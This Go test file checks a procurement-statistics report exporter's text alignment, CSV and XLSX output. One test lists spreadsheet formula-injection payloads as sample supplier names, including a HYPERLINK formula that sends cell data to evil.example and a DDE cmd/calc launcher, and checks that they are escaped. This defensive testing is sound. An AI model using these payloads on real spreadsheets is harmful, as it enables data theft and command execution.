package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/heshi-verify/heshi/pipeline"
)

func TestWriteTextAlignsChinese(t *testing.T) {
	t.Parallel()
	st := &pipeline.Statistics{Counties: []pipeline.CountyRow{
		{Code: "430224", Name: "茶陵县", City: "株洲市", LocalSales: pipeline.AmountOf(84393000)},
		{Code: "433127", Name: "永顺县", City: "湘西土家族苗族自治州", LocalSales: pipeline.AmountOf(5)},
	}}
	var b strings.Builder
	if err := WriteText(&b, st, "counties"); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")[1:]
	at := func(line, token string) int { return displayWidth(line[:strings.Index(line, token)]) }
	want := at(lines[0], "local_product_sales_yuan")
	if a, c := at(lines[1], "843930.00"), at(lines[2], "0.05"); a != want || c != want {
		t.Fatalf("local sales start at cells %d and %d, header at %d:\n%s", a, c, want, b.String())
	}
}

// TestWriteCSVFormulaInert: names a supplier or buyer chose that a
// spreadsheet would run as formulas come out as text; numbers stay numbers.
func TestWriteCSVFormulaInert(t *testing.T) {
	t.Parallel()
	names := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"点击")`: `'=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
		"\t=1+1":                                      "'\t=1+1",
		"\r=1+1":                                      "'\r=1+1",
		"湘西=合作社":                                      "湘西=合作社",
		"-12.50":                                      "-12.50",
		"":                                            "",
	}
	var st pipeline.Statistics
	for name := range names {
		st.Suppliers = append(st.Suppliers, pipeline.PartyRow{ID: "S", Name: name})
	}
	var b strings.Builder
	if err := WriteCSV(&b, &st, "suppliers"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(names)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(names)+1)
	}
	for i, r := range recs[1:] {
		name := st.Suppliers[i].Name
		if r[2] != names[name] {
			t.Errorf("name %q written as %q, want %q", name, r[2], names[name])
		}
	}
}

// statsForExport is a small statement: two counties, two categories.
func statsForExport() *pipeline.Statistics {
	return &pipeline.Statistics{
		Summary: pipeline.Summary{Purchasers: 2, Suppliers: 2, Orders: 3, Amount: pipeline.AmountOf(123456789),
			PurchasersRegistered: 32824, SuppliersApplied: 1118, SuppliersAdmitted: 789, ProductsRegistered: 10592, ProductsTraded: 8592},
		Counties: []pipeline.CountyRow{
			{Code: "430224", Name: "茶陵县", City: "株洲市", BudgetUnitAmount: pipeline.AmountOf(100000000), LocalSales: pipeline.AmountOf(84393000), SuppliersAdmitted: 3, SupplierOrders: 2},
			{Code: "433127", Name: "永顺县", City: "湘西土家族苗族自治州", BudgetUnitAmount: pipeline.AmountOf(23456789), LocalSales: pipeline.AmountOf(39063789), SuppliersAdmitted: 1, SupplierOrders: 1},
		},
		Categories: []pipeline.CategoryRow{{Category: pipeline.CategoryRice, Label: "湘米", Amount: pipeline.AmountOf(100000000), Orders: 2},
			{Category: pipeline.CategoryTea, Label: "湘茶", Amount: pipeline.AmountOf(23456789), Orders: 1}},
	}
}

// TestExportsForPeople (issue 11): the room's exports say their tables in
// Chinese with units, end the tables that add up with a 合计 row, and the
// workbook stores numbers as numbers under a frozen header.
func TestExportsForPeople(t *testing.T) {
	t.Parallel()
	st := statsForExport()
	var b strings.Builder
	if err := WriteCSVFor(&b, st, Chinese, "counties"); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), "\ufeff") {
		t.Error("the CSV has no BOM")
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][1] != "县（市、区）" || recs[0][3] != "预算单位采购额（元）" {
		t.Errorf("header %v, want Chinese with units", recs[0])
	}
	last := recs[len(recs)-1]
	if last[0] != "合计" || last[3] != "1234567.89" || last[8] != "3" {
		t.Errorf("total row %v, want 合计 1234567.89 … 3", last)
	}

	var x bytes.Buffer
	if err := WriteXLSXFor(&x, st, Chinese); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&x)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != len(Tables) || got[0] != "概况" || got[1] != "区县" {
		t.Fatalf("sheets %v", got)
	}
	if v, _ := f.GetCellValue("区县", "D2"); v != "1,000,000.00" {
		t.Errorf("区县!D2 shows %q, want 1,000,000.00 (a number with its format)", v)
	}
	if typ, _ := f.GetCellType("区县", "D2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("区县!D2 is of type %v, want a number", typ)
	}
	if v, _ := f.GetCellValue("区县", "A4"); v != "合计" {
		t.Errorf("区县!A4 = %q, want 合计", v)
	}
	// The overview's figures: counts whole, the amount in yuan and in 万元.
	for cell, want := range map[string]string{"A2": "注册采购人（个）", "B2": "32,824", "B4": "1,118", "B8": "8,592", "B10": "1,234,567.89", "B11": "123.46"} {
		if v, _ := f.GetCellValue("概况", cell); v != want {
			t.Errorf("概况!%s = %q, want %q", cell, v, want)
		}
	}
	panes, err := f.GetPanes("区县")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v, %v; want the header row frozen", panes, err)
	}
	var en strings.Builder
	if err := WriteCSVFor(&en, st, English, "categories"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(en.String(), "Amount (yuan)") || !strings.Contains(en.String(), "Total,,1234567.89") {
		t.Errorf("English categories:\n%s", en.String())
	}
}
